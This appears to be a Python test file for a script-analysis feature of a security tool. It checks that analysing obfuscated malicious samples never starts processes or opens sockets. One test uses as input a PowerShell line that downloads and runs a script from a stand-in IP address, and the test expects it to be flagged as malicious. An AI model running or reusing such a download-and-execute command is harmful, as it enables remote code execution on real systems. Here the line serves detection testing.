"""Analysis never starts a process and never touches the network: every way Python has to do
either is made to fail the test while the whole corpus, obfuscated, is analysed."""

from __future__ import annotations

import asyncio
import os
import socket
import subprocess
from typing import Any

import pytest

from idpilot.script_analysis import analyse_script
from idpilot.skills import default_registry
from tests.conftest import DemoTenant
from tests.script_analysis.corpus import truths
from tests.script_analysis.obfuscate import obfuscate


class Forbidden(AssertionError):
    """A process or a connection was attempted."""


def _forbid(what: str) -> Any:
    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise Forbidden(f"{what} was called during script analysis")

    return refuse


@pytest.fixture
def sealed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Processes and sockets raise."""
    for name in ("Popen", "run", "call", "check_call", "check_output", "getoutput"):
        monkeypatch.setattr(subprocess, name, _forbid(f"subprocess.{name}"))
    for name in ("system", "popen", "execv", "execve", "execvp", "fork", "posix_spawn",
                 "posix_spawnp", "spawnv", "spawnve"):  # fmt: skip
        if hasattr(os, name):
            monkeypatch.setattr(os, name, _forbid(f"os.{name}"))
    monkeypatch.setattr(socket, "socket", _forbid("socket.socket"))
    monkeypatch.setattr(socket, "create_connection", _forbid("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", _forbid("socket.getaddrinfo"))
    monkeypatch.setattr(asyncio, "create_subprocess_exec", _forbid("asyncio subprocess"))


def test_the_seal_itself_catches_a_process_and_a_connection(sealed: None) -> None:
    with pytest.raises(Forbidden):
        subprocess.run(["true"], check=False)
    with pytest.raises(Forbidden):
        socket.create_connection(("127.0.0.1", 9))


def test_analysing_every_sample_spawns_nothing_and_connects_nowhere(sealed: None) -> None:
    analysed = 0
    for truth in truths():
        for seed in range(2):
            sample = obfuscate(truth.name, truth.text, seed)
            analysis = analyse_script(sample.text, name=truth.name)
            assert analysis.decoded
            analysed += 1
    assert analysed >= 60


def test_the_skill_with_the_tenant_spawns_nothing(demo_tenant: DemoTenant, sealed: None) -> None:
    script = "Import-Module AADInternals\nIEX (iwr 'http://203.0.113.9/a.ps1')"
    result = default_registry().get("script_analysis").run(demo_tenant.store, {"script": script})
    assert result.facts.analysis.verdict == "malicious"
